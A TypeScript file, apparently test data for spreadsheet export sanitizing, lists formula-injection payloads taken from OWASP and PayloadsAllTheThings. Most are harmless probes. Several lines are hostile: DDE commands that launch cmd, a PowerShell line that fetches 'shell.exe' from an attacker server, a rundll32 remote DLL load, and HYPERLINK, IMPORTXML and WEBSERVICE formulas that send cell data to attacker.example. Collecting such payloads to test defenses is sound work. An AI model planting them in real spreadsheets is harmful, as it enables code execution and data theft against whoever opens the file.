/**
 * What has been put into spreadsheets to run programs on the machine of whoever opens them. The longer ones are from
 * published lists (OWASP, CSV injection; PayloadsAllTheThings).
 */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=1+1',
  '+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '\u00A0=1',
  '＝1+1',
  '＠x',
  'a;=1',
  '"=1"',
  "'=1",
  'DDE ("cmd";"/C calc";"!A0")A0',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  '=HYPERLINK("https://attacker.example/?leak="&A1&A2,"Error: click for details")',
  '=IMPORTXML(CONCAT("https://attacker.example/?v=",CONCATENATE(A2:E2)),"//a/a10")',
  '=WEBSERVICE("https://attacker.example/"&A1)',
];
